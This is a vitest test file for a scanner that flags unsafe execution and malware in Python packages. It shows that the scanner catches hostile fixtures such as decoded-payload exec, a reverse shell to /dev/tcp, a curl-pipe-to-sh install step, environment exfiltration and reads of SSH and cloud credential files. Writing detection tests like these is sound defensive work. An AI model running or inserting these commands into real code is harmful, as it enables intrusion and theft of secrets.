import { describe, expect, test } from "vitest";
import { cpuMsOf } from "#lib/testing/cpu-time.ts";
import { npmPackage } from "../../archive/archive-builder.ts";
import { readArchive } from "../../archive/read-archive.ts";
import type { Layout } from "../roles.ts";
import { scanCode } from "../scan-code.ts";
import { tokenize } from "./tokens.ts";

const isolation = { permissions: false, network: false, user: false };

async function factsOf(files: Readonly<Record<string, string>>, layout: Layout = "sdist") {
  const contents = await readArchive(npmPackage(files), "tgz");
  const options = { fingerprintKey: Buffer.alloc(32, 1), isolation, layout };
  return (await scanCode(contents, options)).facts;
}
const malwareIn = async (code: string, file = "server.py") =>
  (await factsOf({ [file]: code })).malware.map(({ code: name, line }) => `${name}:${line}`);
const unsafeIn = async (code: string) =>
  (await factsOf({ "server.py": code })).unsafe.map(
    (one) => `${one.code}:${one.line}:${one.severity}`,
  );
const powersIn = async (code: string) =>
  (await factsOf({ "server.py": code })).powers.map(
    ({ power, when, what }) => `${power} ${when} ${what}`,
  );

describe("what is a comment or a text is no code", () => {
  test.each([
    ["a comment", `# os.system(x)\nimport os\n`],
    ["a text", `import os\ntext = "os.system(x); eval(y)"\n`],
    ["a long text", `import os\n"""\nos.system(x)\neval(y)\n"""\n`],
    ["a raw text", `import os\nr'\\' + "eval(x)"\n`],
    ["a method of the same name", `import os\nmodel.eval()\nself.exec(x)\nre.compile(y)\n`],
    ["a function of its own", `def eval(x):\n    return x\neval(input())\n`],
    ["a definition", `class A:\n    def exec(self, x): ...\n    def system(self): ...\n`],
    ["a module that is not imported", `os.system(x)\npickle.loads(y)\n`],
  ])("%s", async (_kind, code) => {
    expect(await unsafeIn(code)).toEqual([]);
    expect(await powersIn(code)).toEqual([]);
  });
});

describe("unsafe execution (CQ-05)", () => {
  test.each([
    ["os.system", `import os\nos.system(cmd)\n`, "unsafe/shell:2:high"],
    ["a fixed command", `import os\nos.system("clear")\n`, "unsafe/shell:2:low"],
    ["a fixed name", `import os\nCMD = "clear"\nos.system(CMD)\n`, "unsafe/shell:3:low"],
    ["a name set twice", `import os\nC = "a"\nC = b\nos.system(C)\n`, "unsafe/shell:4:high"],
    ["popen, renamed", `from os import popen as p\np(f"ls {x}")\n`, "unsafe/shell:2:high"],
    ["shell=True", `import subprocess as sp\nsp.run(cmd, shell=True)\n`, "unsafe/shell:2:high"],
    [
      "over lines",
      `from subprocess import (\n  Popen,\n  PIPE,\n)\nPopen(\n  cmd,\n  shell=True,\n)\n`,
      "unsafe/shell:5:high",
    ],
    ["eval", `eval(text)\n`, "unsafe/run-text:1:high"],
    ["exec of a fixed text", `exec("a = 1")\n`, "unsafe/run-text:1:low"],
    ["builtins", `import builtins\nbuiltins.exec(x)\n`, "unsafe/run-text:2:high"],
    ["pickle", `import pickle\npickle.loads(x)\n`, "unsafe/unpickle:2:high"],
    ["yaml.load", `import yaml\nyaml.load(x)\n`, "unsafe/yaml:2:high"],
    [
      "yaml.load with an unsafe loader",
      `import yaml\nyaml.load(x, Loader=yaml.Loader)\n`,
      "unsafe/yaml:2:high",
    ],
    ["__import__", `__import__("os").system(x)\n`, "unsafe/shell:1:high"],
    ["SQL", `cur.execute(f"SELECT * FROM t WHERE a = '{x}'")\n`, "unsafe/query:1:high"],
  ])("%s", async (_kind, code, found) => {
    expect(await unsafeIn(code)).toEqual([found]);
  });

  test.each([
    `import subprocess\nsubprocess.run(["ls", x])\nsubprocess.run(cmd, shell=False)\n`,
    `import yaml\nyaml.safe_load(x)\nyaml.load(x, Loader=yaml.SafeLoader)\nyaml.load(x, yaml.CSafeLoader)\n`,
    `from yaml import SafeLoader, load\nload(x, Loader=SafeLoader)\n`,
    `import ast, json\nast.literal_eval(x)\njson.loads(y)\n`,
    `cur.execute("SELECT * FROM t WHERE a = ?", (x,))\nlog.execute(f"Run {x}")\n`,
  ])("what is safe is not told: %s", async (code) => {
    expect(await unsafeIn(code)).toEqual([]);
  });

  test("a suppression without a reason is told, one with a reason is not", async () => {
    const { suppressions } = await factsOf({
      "server.py": `a = 1  # nosec\nb = 2  # nosec: only ever called with a fixed list\n`,
    });
    expect(suppressions).toEqual([{ file: "server.py", line: 1 }]);
  });
});

describe("malware (CQ-02)", () => {
  test.each([
    [`import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))\n`, "malware/decoded-code:2"],
    [
      `from base64 import b64decode as d\ncode = d(BLOB)\nexec(compile(code, "x", "exec"))\n`,
      "malware/decoded-code:3",
    ],
    [`import zlib, marshal\nexec(marshal.loads(zlib.decompress(x)))\n`, "malware/decoded-code:2"],
    [`exec(bytes.fromhex("61").decode())\n`, "malware/decoded-code:1"],
    [`__import__("builtins").exec(__import__("base64").b64decode(x))\n`, "malware/decoded-code:1"],
    [`import requests\nexec(requests.get(u).text)\n`, "malware/fetched-code:2"],
    [`import os, base64\nos.system(base64.b64decode(x).decode())\n`, "malware/decoded-command:2"],
    [
      `import socket, subprocess, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])\n`,
      "malware/reverse-shell:3",
    ],
    [`import os\nos.system("bash -i >& /dev/tcp/1.2.3.4/99 0>&1")\n`, "malware/reverse-shell:2"],
    [`import os, requests\nrequests.post(URL, json=dict(os.environ))\n`, "malware/exfiltration:2"],
    [
      `import getpass\nurl = "https://webhook.site/abc"\nname = getpass.getuser()\n`,
      "malware/drop:2",
    ],
  ])("%s gives %s", async (code, found) => {
    expect(await malwareIn(code)).toContain(found);
  });

  test.each([
    `import base64\ndata = base64.b64decode(x)\nopen(p, "wb").write(data)\n`,
    `import os, requests\nrequests.post(u, headers={"a": os.environ["KEY"], "b": os.environ.get("B")})\n`,
    `import os, subprocess\nsubprocess.run(cmd, env={**os.environ, "A": "1"})\n`,
    `import socket, subprocess\nsocket.create_connection(a)\nsubprocess.run(["sh", "-c", x])\n`,
    `import requests, json\njson.loads(requests.get(u).text)\n`,
  ])("honest code is not told: %s", async (code) => {
    expect(await malwareIn(code)).toEqual([]);
  });

  test("what setup.py does while it installs", async () => {
    const setup = (code: string) => malwareIn(code, "setup.py");
    expect(await setup(`import urllib.request\nurllib.request.urlopen(u)\n`)).toEqual([
      "malware/install-network:2",
    ]);
    expect(
      await setup(`import socket, requests\nrequests.get(u + socket.gethostname())\n`),
    ).toEqual(["malware/install-reports:2"]);
    expect(await setup(`import os\nos.system("curl https://x.io/a | sh")\n`)).toEqual([
      "malware/install-download:2",
    ]);
    expect(await setup(`from setuptools import setup\nsetup(name="x")\n`)).toEqual([]);
    expect(await malwareIn(`import requests\nrequests.get(u)\n`, "src/a.py")).toEqual([]);
  });

  test("a .pth file that runs code when Python starts", async () => {
    expect(await malwareIn("import os; exec(open('x').read())\n", "x.pth")).toEqual([
      "malware/start-hook:1",
    ]);
    expect(await malwareIn("./src\nimport _virtualenv\n", "x.pth")).toEqual([]);
  });

  test("is looked for in tests and in what is brought along", async () => {
    const code = `import base64\nexec(base64.b64decode(x))\n`;
    for (const file of ["tests/a.py", "lib/site-packages/a/__init__.py"])
      expect(await malwareIn(code, file)).toEqual(["malware/decoded-code:2"]);
  });
});

describe("powers (CD-02)", () => {
  test("load and run are told apart", async () => {
    const code = `import httpx, subprocess
client = httpx.Client()
def later():
    subprocess.run(["ls"])
    class A:
        x = httpx.get(u)
async def more(): open(p)
if __name__ == "__main__":
    httpx.post(u)
import ctypes
ctypes.CDLL("x")
`;
    expect(await powersIn(code)).toEqual([
      "native load ctypes.CDLL",
      "network load httpx.Client",
      "subprocess run subprocess.run",
      "network run httpx.get",
      "network run httpx.post",
      "filesystem run open",
    ]);
  });

  test("variables by every way of reading them", async () => {
    const { environment, powers } = await factsOf({
      "server.py": `import os
from os import environ, getenv
a = os.environ["ONE"], os.environ.get("TWO"), os.getenv("THREE", "x"), environ["FOUR"], getenv("FIVE")
os.environ["SIX"] = "x"
os.environ[name]
dict(os.environ)
if "SEVEN" in os.environ: pass
`,
    });
    expect(environment).toEqual(["FIVE", "FOUR", "ONE", "THREE", "TWO"]);
    expect(powers.map(({ what }) => what)).toEqual(
      expect.arrayContaining(["SIX (set)", "(any)", "(all)"]),
    );
  });

  test.each([
    [`from pathlib import Path\nopen(Path.home() / ".ssh" / "id_rsa")\n`, "SSH keys"],
    [`import os\nopen(os.path.expanduser("~/.aws/credentials"))\n`, "cloud credentials"],
    [`import os\nopen(os.path.join(home, ".npmrc"))\n`, "registry and repository credentials"],
  ])("a private place: %s", async (code, what) => {
    expect(await powersIn(code)).toContain(`sensitive_path load ${what}`);
  });

  test("hosts and telemetry, but not those of documentation", async () => {
    const { hosts, telemetry } = await factsOf({
      "server.py": `"""See https://docs.acme.io/x"""\nimport sentry_sdk\nURL = f"https://api.acme.io/{x}"\n`,
    });
    expect(hosts).toEqual(["api.acme.io"]);
    expect(telemetry).toMatchObject([{ what: "sentry_sdk" }]);
  });

  test("code in a test folder counts as soon as the package loads it", async () => {
    const test = { "tests/x.py": `import httpx\nhttpx.get(u)\n` };
    expect((await factsOf({ ...test, "pkg/a.py": "x = 1\n" })).powers).toEqual([]);
    for (const line of ["from ..tests import x", "from tests.x import y", "import tests.x"])
      expect((await factsOf({ ...test, "pkg/a.py": `${line}\n` })).powers).toHaveLength(1);
  });
});

describe("tool handlers (CQ-04)", () => {
  const validationIn = async (code: string) => {
    const { validation } = await factsOf({ "server.py": code });
    return { ...validation, unvalidated: validation.unvalidated.map(({ line }) => line) };
  };
  const HEAD = "from mcp.server.fastmcp import FastMCP, Context\nmcp = FastMCP()\n";

  test("of FastMCP check what has a type", async () => {
    expect(
      await validationIn(`${HEAD}@mcp.tool()
async def add(
    a: int, b: dict[str, int] = {"x": 1}, *, ctx
) -> int:
    return a
@mcp.tool
def raw(x, y: int): ...
`),
    ).toEqual({ handlers: 2, libraries: ["FastMCP"], unvalidated: [9] });
  });

  test("of the low-level way are checked by a library, or not at all", async () => {
    const code = (more: string) =>
      `from mcp.server import Server\n${more}\nserver = Server()\n@server.call_tool()\nasync def call(name, args):\n    Model.model_validate(args)\n`;
    expect(await validationIn(code("import pydantic"))).toMatchObject({ unvalidated: [] });
    expect(await validationIn(code("").replace("model_validate", "show"))).toMatchObject({
      handlers: 1,
      unvalidated: [5],
    });
  });
});

describe("how much could be read", () => {
  test("Python is read but not analysed, which is told once", async () => {
    const facts = await factsOf({ "a.py": "x = 1\n", "b.py": "y = 1\n" });
    expect(facts).toMatchObject({
      scannable: "full",
      languages: [{ name: "Python", files: 2, readable: true }],
      unread: [{ file: "a.py", reason: "analyser" }],
    });
  });

  test("bytecode, which Python runs in place of its source, is told as unread", async () => {
    const facts = await factsOf({ "a.py": "x = 1\n", "b.pyc": "\0\0\0\0" });
    expect(facts).toMatchObject({
      scannable: "partial",
      unread: expect.arrayContaining([{ file: "b.pyc", reason: "language" }]),
    });
  });

  test("what is no Python is told", async () => {
    expect((await factsOf({ "a.py": 'x = """never ends\n' })).unread).toEqual([
      { file: "a.py", reason: "syntax" },
    ]);
  });

  test("hostile text takes linear time", async () => {
    const took = await cpuMsOf(() => {
      for (const text of [
        "{".repeat(200_000),
        `f"${"{".repeat(200_000)}"`,
        `x = "${"\\\\".repeat(200_000)}"`,
        "(".repeat(100_000),
        '"" '.repeat(200_000),
      ])
        expect(tokenize(text)).toBeDefined();
    });
    expect(took).toBeLessThan(5_000);
  });
});
